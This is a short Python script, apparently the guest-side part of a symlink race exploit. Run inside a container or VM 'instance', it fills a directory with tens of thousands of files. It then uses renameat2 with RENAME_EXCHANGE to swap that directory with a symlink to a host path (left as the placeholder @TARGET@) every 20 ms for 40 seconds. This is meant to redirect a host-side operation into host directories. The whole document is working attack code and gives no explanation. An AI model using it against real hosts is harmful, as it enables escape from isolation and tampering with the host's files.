# In an instance: a directory with many files and a link to a directory of the host exchange their names now and then.
import ctypes, os, time

TARGET, FILES, SECONDS = "@TARGET@", 30000, 40
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/var/tmp/race/directory")
os.chdir("/var/tmp/race")
os.symlink(TARGET, "link")
names = [f"directory/a{number}" for number in range(FILES)] + [f"directory/f{number}" for number in range(20)]
for name in names:
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o644))
open("/var/tmp/flipping", "w").close()
end = time.time() + SECONDS
while time.time() < end:
    libc.renameat2(-100, b"directory", -100, b"link", 2)
    time.sleep(0.02)
